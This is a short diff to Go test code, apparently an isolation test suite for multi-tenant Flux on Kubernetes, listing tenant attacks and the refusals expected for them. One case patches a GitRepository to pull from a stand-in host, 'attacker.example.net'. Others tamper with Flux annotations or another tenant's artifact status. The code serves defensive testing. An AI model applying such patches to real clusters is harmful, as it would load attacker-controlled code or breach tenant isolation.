@@ -27,7 +27,7 @@ func markAttacks() []attack {
 		{
 			name: "the platform's Kustomization: another repository",
 			call: func(ctx context.Context, a *attempt) error {
-				return a.tryPatch(ctx, a.attacker.GitRepository, `{"spec":{"url":"http://attacker.example.net/x.git"}}`)
+				return a.tryPatch(ctx, a.attacker.GitRepository, `{"spec":{"url":"https://attacker.example.net/x.git"}}`)
 			},
 			policy: platforms,
 		},
@@ -61,7 +61,7 @@ func markAttacks() []attack {
 					Namespace: a.attacker.Name, Name: a.id, Annotations: map[string]string{"kustomize.toolkit.fluxcd.io/ssa": "Ignore"},
 				}}, client.DryRunAll)
 			},
-			policy: refusal{byPolicy, "kustomize.toolkit.fluxcd.io/"},
+			policy: refusal{byPolicy, "no kustomize.toolkit.fluxcd.io/{reconcile,prune,ssa,force} in a home namespace"},
 		},
 		{
 			name: "status of a source in its home: another tenant's artifact",
@@ -81,7 +81,7 @@ func markAttacks() []attack {
 				}
 				return a.client.Status().Patch(ctx, source, harness.MergePatch(a.expand(borrowedArtifact)), client.DryRunAll)
 			},
-			policy: refusal{byPolicy, "status: only Flux's controllers write it"},
+			always: refusal{byQuota, "exceeded quota: isolation"},
 		},
 		{
 			name:   "an object that is being deleted, changed to name no account",
